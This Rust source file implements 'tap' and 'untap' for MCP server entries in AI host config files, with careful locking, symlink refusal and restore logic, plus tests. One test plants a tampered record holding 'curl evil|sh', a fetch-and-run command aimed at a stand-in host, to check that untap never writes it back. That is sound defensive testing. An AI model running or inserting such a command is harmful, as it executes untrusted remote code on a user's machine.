//! A host's server routed through `mcpwb tap`, and back. **Tap** rewrites
//! one stdio entry of a host's config (Claude Desktop, Claude Code, Cursor,
//! VS Code, Windsurf, Cline, Roo, LM Studio: the files with `mcpServers` or
//! `servers`; Codex's `config.toml`, `[mcp_servers.NAME]`) to run `mcpwb tap --name NAME -- COMMAND ARGS...`, editing
//! only its `command` and `args` (comments, order and every other byte
//! kept). **Untap** puts the file's bytes back as they were when the file is
//! still as the tap left it, else sets that entry's `command` and `args`
//! back. What was tapped is written down in the data folder
//! (`tapped-hosts.json`); nothing becomes trusted by being tapped.
//!
//! A file that is a symbolic link is not edited (an atomic write would
//! replace the link with a file): edit its target.
//!
//! The record is a way back, not an authority: Untap puts the whole file
//! back only when its `before` tapped again gives the file as it is now,
//! and otherwise takes the entry's command and args from the tapped entry
//! itself (`… tap --name=NAME -- COMMAND ARGS`); an entry the person
//! deleted since stays deleted. Files are recorded by their real path.

use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};

use super::toml_file;
use crate::edit::{EditOp, apply};
use crate::error::{Error, Result};
use crate::files::record_key;

/// One tapped entry: enough to put it back.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Record {
    /// The host's config file.
    pub path: String,
    /// The entry's name.
    pub name: String,
    /// The file's text before the tap.
    pub before: String,
    /// The file's text as the tap left it.
    pub after: String,
    /// The entry's `command` before the tap.
    pub command: Value,
    /// Its `args` before the tap (null: it had none).
    pub args: Value,
}

/// Every tapped entry, as kept in the data folder.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Records {
    /// In the order tapped.
    pub tapped: Vec<Record>,
}

impl Records {
    /// The records in `file` (none when it does not exist).
    pub fn load(file: &Path) -> Result<Records> {
        match crate::files::read_no_follow(file, 64 * 1024 * 1024) {
            Ok(bytes) => serde_json::from_slice(&bytes).map_err(|e| Error::ConfigEdit {
                message: format!("{}: {e}", file.display()),
            }),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Records::default()),
            Err(source) => Err(Error::ConfigUnreadable {
                path: file.to_path_buf(),
                source,
            }),
        }
    }

    fn save(&self, file: &Path) -> Result<()> {
        let text = serde_json::to_string_pretty(self).unwrap_or_default() + "\n";
        if let Some(dir) = file.parent() {
            std::fs::create_dir_all(dir).map_err(|source| Error::ConfigWrite {
                path: file.to_path_buf(),
                source,
            })?;
        }
        crate::files::write_private_atomic(file, text.as_bytes())
    }

    /// The record of `name` in `path`.
    pub fn find(&self, path: &str, name: &str) -> Option<&Record> {
        self.tapped
            .iter()
            .find(|r| r.path == path && r.name == name)
    }
}

fn edit_error(message: String) -> Error {
    Error::ConfigEdit { message }
}

/// Read a host's file, refusing a link.
pub(super) fn read(path: &Path) -> Result<String> {
    let bytes = crate::files::read_no_follow(path, 64 * 1024 * 1024).map_err(|source| {
        if source.raw_os_error() == Some(40) {
            edit_error(format!(
                "{} is a symbolic link: the workbench does not edit through links; tap in the file it points to",
                path.display()
            ))
        } else {
            Error::ConfigUnreadable {
                path: path.to_path_buf(),
                source,
            }
        }
    })?;
    String::from_utf8(bytes).map_err(|_| Error::ConfigUnreadable {
        path: path.to_path_buf(),
        source: std::io::Error::new(std::io::ErrorKind::InvalidData, "not UTF-8 text"),
    })
}

/// The raw entry `name` of a host's file.
fn entry(path: &Path, text: &str, name: &str) -> Result<Map<String, Value>> {
    find_entry(path, text, name)?.ok_or_else(|| {
        edit_error(format!(
            "there is no server named \"{name}\" in {}",
            path.display()
        ))
    })
}

/// The raw entries of a host's file: `mcpServers` and `servers` of a JSON
/// file, `[mcp_servers.NAME]` of Codex's TOML (its `command` and `args`
/// are spelt as ours).
fn raw_entries(path: &Path, text: &str) -> Result<Vec<(String, Map<String, Value>)>> {
    if toml_file::is_toml(path) {
        return toml_file::servers(path, text);
    }
    let doc = crate::parse_jsonc(path, text)?;
    let mut out = Vec::new();
    for key in ["mcpServers", "servers"] {
        for (name, raw) in doc[key].as_object().into_iter().flatten() {
            if let Some(raw) = raw.as_object() {
                out.push((name.clone(), raw.clone()));
            }
        }
    }
    Ok(out)
}

/// The raw entry `name` of a host's file, if it has one.
fn find_entry(path: &Path, text: &str, name: &str) -> Result<Option<Map<String, Value>>> {
    Ok(raw_entries(path, text)?
        .into_iter()
        .find(|(n, _)| n == name)
        .map(|(_, e)| e))
}

/// `text` with entry `name` running `command` `args` (null: no args), and
/// every other byte as it was.
fn launch(path: &Path, text: &str, name: &str, command: &Value, args: &Value) -> Result<String> {
    if toml_file::is_toml(path) {
        return toml_file::set_launch(path, text, name, command, args);
    }
    let mut fields = Map::new();
    fields.insert("command".into(), command.clone());
    fields.insert("args".into(), args.clone());
    apply(
        path,
        text,
        &EditOp::Upsert {
            name: name.to_string(),
            fields,
        },
    )
}

/// The `--name` argument a tap is given: one argument, so a name that
/// looks like a flag (`-x`) is still the name.
fn name_arg(name: &str) -> String {
    format!("--name={name}")
}

/// The command and args a tapped entry runs behind the tap (what follows
/// its `--`), or None when it is not a tap's entry.
fn behind_tap(raw: &Map<String, Value>) -> Option<(Value, Value)> {
    if !is_tapped(raw) {
        return None;
    }
    let args = raw.get("args")?.as_array()?;
    let at = args.iter().position(|a| a == "--")?;
    let command = args.get(at + 1)?.clone();
    let rest = &args[at + 2..];
    let rest = if rest.is_empty() {
        Value::Null
    } else {
        Value::Array(rest.to_vec())
    };
    Some((command, rest))
}

/// Whether two `args` say the same (absent and `[]` are no args).
fn same_args(a: &Value, b: &Value) -> bool {
    let empty = |v: &Value| v.is_null() || v.as_array().is_some_and(Vec::is_empty);
    a == b || (empty(a) && empty(b))
}

/// The fields a tap writes into `name`'s entry to run `command` `args`
/// behind `mcpwb`, with `--keep`: a server that exits by itself (a crash, a
/// kill while its author debugs it) is started again with the host kept
/// connected, its handshake replayed — the host never sees it go.
fn tapped_args(name: &str, command: &Value, args: &Value) -> Value {
    let mut new_args = vec![
        json!("tap"),
        json!(name_arg(name)),
        json!("--keep"),
        json!("--"),
        command.clone(),
    ];
    new_args.extend(args.as_array().cloned().unwrap_or_default());
    Value::Array(new_args)
}

/// One entry of a host's file, as the window's list shows it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HostEntry {
    /// The entry's name.
    pub name: String,
    /// What it runs (its command line) or reaches (its URL).
    pub target: String,
    /// It runs through `mcpwb tap` now.
    pub tapped: bool,
    /// The workbench tapped it (Untap can put it back).
    pub untappable: bool,
    /// A remote server: tapped with `mcpwb tap --to URL`, not here.
    pub remote: bool,
}

/// The entries of a host's file (`mcpServers` and `servers`), each with
/// whether it is tapped; `records` says which the workbench can put back.
pub fn entries(records: &Path, path: &Path) -> Result<Vec<HostEntry>> {
    let text = read(path)?;
    let all = Records::load(records)?;
    let file_key = record_key(path);
    Ok(raw_entries(path, &text)?
        .into_iter()
        .map(|(name, raw)| HostEntry {
            target: super::target_of(&name, &raw),
            tapped: is_tapped(&raw),
            untappable: all.find(&file_key, &name).is_some(),
            remote: raw.get("command").is_none(),
            name,
        })
        .collect())
}

/// Whether an entry runs through a tap already.
pub fn is_tapped(entry: &Map<String, Value>) -> bool {
    entry
        .get("args")
        .and_then(Value::as_array)
        .and_then(|a| a.first())
        .is_some_and(|a| a == "tap")
        && entry
            .get("command")
            .and_then(Value::as_str)
            .is_some_and(|c| Path::new(c).file_name().is_some_and(|f| f == "mcpwb"))
}

/// Whether a host's file of dialect `d` has its entries tapped in place:
/// the JSON files with `mcpServers` or `servers`, and Codex's TOML. Zed's
/// settings, Goose's and Continue's YAML and OpenCode's command lists are
/// not (a tap is put in their entry by hand).
pub fn tappable(d: super::Dialect) -> bool {
    use super::Dialect as D;
    !matches!(
        d,
        D::Zed | D::Goose | D::Continue | D::OpenCode | D::Registry
    )
}

/// Route `name` of the host's file `path` through `mcpwb` (its path);
/// written down in `records`.
pub fn tap(records: &Path, path: &Path, name: &str, mcpwb: &str) -> Result<()> {
    // The records, then the host's file: one order for every tap and untap.
    let _records = crate::files::lock_beside(records);
    let file = HostFile::open(path)?;
    let before = file.text.clone();
    let dialect = super::guess(path, &before);
    if !tappable(dialect) {
        return Err(edit_error(format!(
            "{} is {}'s: its entries are not tapped in place; in its entry, run `mcpwb tap --name {name} -- COMMAND ARGS…` instead of the server",
            path.display(),
            dialect.id()
        )));
    }
    let raw = entry(path, &before, name)?;
    if is_tapped(&raw) {
        return Err(edit_error(format!("{name} runs through the tap already")));
    }
    let Some(command) = raw.get("command").filter(|c| c.is_string()).cloned() else {
        let url = raw.get("url").and_then(Value::as_str).unwrap_or("its URL");
        return Err(edit_error(format!(
            "{name} is a remote server: run `mcpwb tap --to {url}` and name the URL it prints in the host's config"
        )));
    };
    let args = raw.get("args").cloned().unwrap_or(Value::Null);
    let after = launch(
        path,
        &before,
        name,
        &json!(mcpwb),
        &tapped_args(name, &command, &args),
    )?;
    let mut all = Records::load(records)?;
    let key = record_key(path);
    all.tapped.retain(|r| !(r.path == key && r.name == name));
    all.tapped.push(Record {
        path: key,
        name: name.to_string(),
        before: before.clone(),
        after: after.clone(),
        command,
        args,
    });
    // Written down first: an entry is never tapped without the way back.
    all.save(records)?;
    file.write(path, &after)
}

/// Put `name` of `path` back as it was before [`tap`]. What it says: the
/// entry is back, or it was no longer in the file (the record is dropped,
/// nothing is written).
pub fn untap(records: &Path, path: &Path, name: &str) -> Result<Untapped> {
    let _records = crate::files::lock_beside(records);
    let all = Records::load(records)?;
    let key = record_key(path);
    let record = all.find(&key, name).cloned().ok_or_else(|| {
        edit_error(format!(
            "{name} of {} was not tapped by the workbench",
            path.display()
        ))
    })?;
    let file = HostFile::open(path)?;
    let now = file.text.clone();
    let forget = |mut all: Records| {
        all.tapped.retain(|r| !(r.path == key && r.name == name));
        all.save(records)
    };
    let Some(raw) = find_entry(path, &now, name)? else {
        // The person deleted it since: it stays deleted.
        forget(all)?;
        return Ok(Untapped::Gone);
    };
    let Some((command, args)) = behind_tap(&raw) else {
        // Not a tap's entry any more (the person changed it): left as it is.
        forget(all)?;
        return Ok(Untapped::NotTapped);
    };
    // The whole file back only when the record's `before`, tapped again,
    // is the file as it is now: a record that says otherwise is not taken
    // at its word.
    let genuine = now == record.after
        && find_entry(path, &record.before, name)?.is_some_and(|b| {
            b.get("command") == Some(&command)
                && same_args(b.get("args").unwrap_or(&Value::Null), &args)
                && launch(
                    path,
                    &record.before,
                    name,
                    raw.get("command").unwrap_or(&Value::Null),
                    &tapped_args(name, &command, &args),
                )
                .is_ok_and(|t| t == now)
        });
    let restored = if genuine {
        record.before.clone()
    } else {
        // Changed since: only this entry's command and args go back, as
        // the tapped entry itself runs them (the record's spelling of no
        // args, absent or [], when it says the same).
        let args = if same_args(&record.args, &args) {
            record.args.clone()
        } else {
            args
        };
        launch(path, &now, name, &command, &args)?
    };
    file.write(path, &restored)?;
    forget(all)?;
    Ok(Untapped::Back)
}

/// What [`untap`] did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Untapped {
    /// The entry runs its own command again.
    Back,
    /// The entry is no longer in the file: nothing was written.
    Gone,
    /// The entry no longer runs through the tap: nothing was written.
    NotTapped,
}

impl Untapped {
    /// What a person is told of `name` in `path`.
    pub fn said(self, name: &str, path: &Path) -> String {
        match self {
            Untapped::Back => format!("{name} in {} is back as it was", path.display()),
            Untapped::Gone => format!(
                "{name} is no longer in {}: it stays deleted (the workbench forgot its tap)",
                path.display()
            ),
            Untapped::NotTapped => format!(
                "{name} in {} no longer runs through the tap: left as it is",
                path.display()
            ),
        }
    }
}

/// A host's file read under its lock (`files::lock_file`), held until the
/// edit made from it is written ([`HostFile::write`]): the window and
/// `mcpwb` tapping or adding into the same file at once each edit what
/// the other wrote, never refused for it.
pub(super) struct HostFile {
    _held: Option<nix::fcntl::Flock<std::fs::File>>,
    pub text: String,
}

impl HostFile {
    /// Lock `path`, then read it (never through a link).
    pub(super) fn open(path: &Path) -> Result<HostFile> {
        let held = crate::files::lock_file(path);
        Ok(HostFile {
            _held: held,
            text: read(path)?,
        })
    }

    /// Replace the file with `text`, made from what was read. The host
    /// takes no lock of ours: a file it changed since is a conflict,
    /// never written over.
    pub(super) fn write(self, path: &Path, text: &str) -> Result<()> {
        if read(path)? != self.text {
            return Err(Error::ConfigConflict {
                path: path.to_path_buf(),
            });
        }
        crate::document::write_atomic(path, text.as_bytes(), false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A host whose entries are not tapped in place (OpenCode's command
    /// list) says so and how, and its file is left as it is.
    #[test]
    fn an_opencode_entry_is_not_tapped_in_place() {
        let dir = tempfile::tempdir().unwrap();
        let records = dir.path().join("tapped-hosts.json");
        let path = dir.path().join("opencode.json");
        let text = "{ \"mcp\": { \"fs\": { \"type\": \"local\", \"command\": [\"npx\", \"server-fs\"] } } }\n";
        std::fs::write(&path, text).unwrap();
        let e = tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap_err();
        assert!(
            e.to_string()
                .contains("run `mcpwb tap --name fs -- COMMAND ARGS…`"),
            "{e}"
        );
        assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
    }

    /// Codex's `config.toml`: the same tap and untap, its TOML kept byte
    /// for byte around the one table's `command` and `args`.
    #[test]
    fn a_codex_server_is_tapped_and_untapped_in_its_toml() {
        let dir = tempfile::tempdir().unwrap();
        let records = dir.path().join("tapped-hosts.json");
        let path = dir.path().join("config.toml");
        let original = "# mine\nmodel = \"gpt-5-codex\"\n\n[mcp_servers.fs]\ncommand = \"npx\" # launcher\nargs = [\"-y\", \"server-fs\", \"/tmp\"]\n\n[mcp_servers.fs.env]\nA = \"1\"\n\n[mcp_servers.web]\nurl = \"https://x.example/mcp\"\n";
        std::fs::write(&path, original).unwrap();
        let listed = entries(&records, &path).unwrap();
        assert_eq!(
            listed
                .iter()
                .map(|e| (e.name.as_str(), e.remote))
                .collect::<Vec<_>>(),
            [("fs", false), ("web", true)]
        );
        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
        let tapped = std::fs::read_to_string(&path).unwrap();
        assert!(tapped.starts_with("# mine\n"), "{tapped}");
        let e = entry(&path, &tapped, "fs").unwrap();
        assert_eq!(e["command"], "/usr/bin/mcpwb");
        assert_eq!(
            e["args"],
            json!([
                "tap",
                "--name=fs",
                "--keep",
                "--",
                "npx",
                "-y",
                "server-fs",
                "/tmp"
            ])
        );
        assert_eq!(e["env"]["A"], "1");
        assert!(entries(&records, &path).unwrap()[0].tapped);
        untap(&records, &path, "fs").unwrap();
        assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
        // Changed after the tap: only the entry goes back.
        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
        let edited = std::fs::read_to_string(&path)
            .unwrap()
            .replace("gpt-5-codex", "o4-mini");
        std::fs::write(&path, &edited).unwrap();
        untap(&records, &path, "fs").unwrap();
        let back = std::fs::read_to_string(&path).unwrap();
        let e = entry(&path, &back, "fs").unwrap();
        assert_eq!(e["command"], "npx");
        assert!(back.contains("o4-mini"), "{back}");
    }

    #[test]
    fn tap_then_untap_gives_the_bytes_back() {
        let dir = tempfile::tempdir().unwrap();
        let records = dir.path().join("tapped-hosts.json");
        let path = dir.path().join("claude_desktop_config.json");
        let original = "{\n  // mine\n  \"mcpServers\": {\n    \"fs\": { \"command\": \"npx\", \"args\": [\"-y\", \"server-fs\", \"/tmp\"], \"env\": {\"A\": \"1\"} },\n    \"web\": { \"url\": \"https://x.example/mcp\" }\n  },\n  \"other\": true\n}\n";
        std::fs::write(&path, original).unwrap();
        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
        let tapped = std::fs::read_to_string(&path).unwrap();
        assert!(tapped.contains("// mine") && tapped.contains("\"other\": true"));
        let e = entry(&path, &tapped, "fs").unwrap();
        assert_eq!(e["command"], "/usr/bin/mcpwb");
        assert_eq!(
            e["args"],
            json!([
                "tap",
                "--name=fs",
                "--keep",
                "--",
                "npx",
                "-y",
                "server-fs",
                "/tmp"
            ])
        );
        assert_eq!(e["env"]["A"], "1");
        assert!(is_tapped(&e));
        let again = tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap_err();
        assert!(again.to_string().contains("already"), "{again}");
        let remote = tap(&records, &path, "web", "/usr/bin/mcpwb").unwrap_err();
        assert!(
            remote
                .to_string()
                .contains("mcpwb tap --to https://x.example/mcp"),
            "{remote}"
        );
        untap(&records, &path, "fs").unwrap();
        assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
        // Changed after the tap: only the entry goes back.
        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
        let edited = std::fs::read_to_string(&path)
            .unwrap()
            .replace("\"other\": true", "\"other\": false");
        std::fs::write(&path, &edited).unwrap();
        untap(&records, &path, "fs").unwrap();
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            original.replace("\"other\": true", "\"other\": false")
        );
        assert!(untap(&records, &path, "fs").is_err());
        // Never through a link.
        let link = dir.path().join("link.json");
        std::os::unix::fs::symlink(&path, &link).unwrap();
        let refused = tap(&records, &link, "fs", "/usr/bin/mcpwb").unwrap_err();
        assert!(refused.to_string().contains("symbolic link"), "{refused}");
    }

    /// The review's plays: Untap after the person deleted the entry brought
    /// it back; an entry named like a flag was tapped into a command that
    /// no longer started; a planted record's `before` was written back
    /// wholesale; a relative path was another folder's file.
    /// Taps of four hosts' files at once (the window, `mcpwb`): each keeps
    /// its way back, and each untaps to the bytes it had.
    #[test]
    fn taps_at_once_each_keep_their_way_back() {
        let dir = tempfile::tempdir().unwrap();
        let records = dir.path().join("tapped-hosts.json");
        let original =
            "{ \"mcpServers\": { \"fs\": { \"command\": \"npx\", \"args\": [\"server-fs\"] } } }\n";
        let host = |w: usize| dir.path().join(format!("host-{w}.json"));
        for w in 0..4 {
            std::fs::write(host(w), original).unwrap();
        }
        let (at, rec) = (dir.path().to_owned(), records.clone());
        crate::tests::at_once(4, move |w| {
            let path = at.join(format!("host-{w}.json"));
            tap(&rec, &path, "fs", "/usr/bin/mcpwb").unwrap();
        });
        assert_eq!(Records::load(&records).unwrap().tapped.len(), 4);
        for w in 0..4 {
            untap(&records, &host(w), "fs").unwrap();
            assert_eq!(std::fs::read_to_string(host(w)).unwrap(), original);
        }
    }

    #[test]
    fn untap_takes_the_file_not_the_record_at_its_word() {
        let dir = tempfile::tempdir().unwrap();
        let records = dir.path().join("tapped-hosts.json");
        let path = dir.path().join("claude_desktop_config.json");
        let original = r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "server-fs"]}, "-x": {"command": "uvx", "args": ["thing"]}}}"#;
        std::fs::write(&path, original).unwrap();
        // A name like a flag stays one argument.
        tap(&records, &path, "-x", "/usr/bin/mcpwb").unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert_eq!(
            entry(&path, &text, "-x").unwrap()["args"],
            json!(["tap", "--name=-x", "--keep", "--", "uvx", "thing"])
        );
        assert_eq!(untap(&records, &path, "-x").unwrap(), Untapped::Back);
        assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
        // Deleted by the person after the tap: it stays deleted.
        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
        let without = r#"{"mcpServers": {"-x": {"command": "uvx", "args": ["thing"]}}}"#;
        std::fs::write(&path, without).unwrap();
        assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Gone);
        assert_eq!(std::fs::read_to_string(&path).unwrap(), without);
        assert!(Records::load(&records).unwrap().tapped.is_empty());
        // A planted record: its `after` is the file, its `before` anything.
        std::fs::write(&path, original).unwrap();
        tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
        let mut all = Records::load(&records).unwrap();
        all.tapped[0].before =
            r#"{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "curl evil|sh"]}}}"#.into();
        all.tapped[0].command = json!("sh");
        all.tapped[0].args = json!(["-c", "curl evil|sh"]);
        all.save(&records).unwrap();
        assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Back);
        let back = std::fs::read_to_string(&path).unwrap();
        assert!(!back.contains("evil"), "{back}");
        assert_eq!(entry(&path, &back, "fs").unwrap()["command"], "npx");
        assert_eq!(
            entry(&path, &back, "fs").unwrap()["args"],
            json!(["-y", "server-fs"])
        );
        // A file reached through a linked folder is recorded as its real one.
        let linked = dir.path().join("linked");
        std::os::unix::fs::symlink(dir.path(), &linked).unwrap();
        tap(
            &records,
            &linked.join("claude_desktop_config.json"),
            "fs",
            "/usr/bin/mcpwb",
        )
        .unwrap();
        assert_eq!(
            Records::load(&records).unwrap().tapped[0].path,
            record_key(&path)
        );
        assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Back);
    }
}
